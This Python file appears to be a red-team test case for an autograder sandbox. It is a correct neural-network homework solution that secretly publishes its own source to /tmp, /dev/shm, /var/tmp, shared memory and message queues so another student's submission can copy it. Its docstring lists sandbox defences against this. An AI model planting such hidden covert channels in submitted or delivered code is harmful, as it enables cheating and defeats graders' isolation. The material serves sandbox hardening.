"""Attack, part 1 (graded first): a correct solution that also publishes its own source code for a later
submission of the same batch to run: in its scratch folder, /tmp, /dev/shm, /var/tmp, a System V shared memory
segment, a System V message queue and a POSIX message queue. A classmate's submission (persist_2_reader.py)
then copies it at grading time. This file earns its 10/10 honestly; the point is the reader.

Defence: Landlock (files outside the scratch folder), a fresh scratch folder per submission, and (needed) no
System V / POSIX IPC across submissions: seccomp denying it, or an IPC namespace per student process.
"""

import ctypes
import linecache
import os
import zlib

import numpy as np

MARKER = "@@MARKER@@"


def _publish():
    source = "".join(linecache.getlines("<submission>")).encode()
    if not source:
        return
    for path in ("state.txt", f"/tmp/{MARKER}-state", f"/dev/shm/{MARKER}-state", f"/var/tmp/{MARKER}-state"):
        try:
            with open(path, "wb") as fh:
                fh.write(source)
            os.chmod(path, 0o666)
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    key = zlib.crc32(MARKER.encode()) & 0x7FFFFFFF
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
    segment = libc.shmget(key, len(source) + 1, 0o1666)
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        if address not in (None, 2**64 - 1):
            ctypes.memmove(address, source + b"\0", len(source) + 1)
    queue = libc.msgget(key + 1, 0o1666)
    if queue >= 0:
        for start in range(0, len(source), 4000):
            chunk = source[start:start + 4000]
            message = ctypes.create_string_buffer(ctypes.c_long(1).value.to_bytes(8, "little") + chunk)
            libc.msgsnd(queue, message, len(chunk), 0o4000)  # IPC_NOWAIT
    libc.mq_open.restype = ctypes.c_int
    mq = libc.mq_open(f"/{MARKER}".encode(), 0o100 | 0o1, 0o666, None)  # O_CREAT | O_WRONLY
    if mq >= 0:
        libc.mq_send(mq, source[:8000], min(len(source), 8000), 0)


def _published(fn):
    _publish()
    return fn


@_published
def layer_sizes(X, Y):
    _publish()
    return X.shape[0], 4, Y.shape[0]


def initialize_parameters(n_x, n_h, n_y):
    W1 = np.random.randn(n_h, n_x) * 0.01
    b1 = np.zeros((n_h, 1))
    W2 = np.random.randn(n_y, n_h) * 0.01
    b2 = np.zeros((n_y, 1))
    return {"W1": W1, "b1": b1, "W2": W2, "b2": b2}


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def forward_propagation(X, parameters):
    Z1 = parameters["W1"] @ X + parameters["b1"]
    A1 = np.tanh(Z1)
    Z2 = parameters["W2"] @ A1 + parameters["b2"]
    A2 = sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def compute_cost(A2, Y):
    m = Y.shape[1]
    return float(-np.sum(Y * np.log(A2) + (1 - Y) * np.log(1 - A2)) / m)


def backward_propagation(parameters, cache, X, Y):
    m = X.shape[1]
    dZ2 = cache["A2"] - Y
    dW2 = dZ2 @ cache["A1"].T / m
    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
    dZ1 = (parameters["W2"].T @ dZ2) * (1 - cache["A1"] ** 2)
    dW1 = dZ1 @ X.T / m
    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
    return {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}


def update_parameters(parameters, grads, learning_rate=1.2):
    return {k: parameters[k] - learning_rate * grads["d" + k] for k in ("W1", "b1", "W2", "b2")}


def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
    n_x, _, n_y = layer_sizes(X, Y)
    parameters = initialize_parameters(n_x, n_h, n_y)
    for _ in range(num_iterations):
        A2, cache = forward_propagation(X, parameters)
        grads = backward_propagation(parameters, cache, X, Y)
        parameters = update_parameters(parameters, grads)
    return parameters


def predict(parameters, X):
    A2, _ = forward_propagation(X, parameters)
    return A2 > 0.5
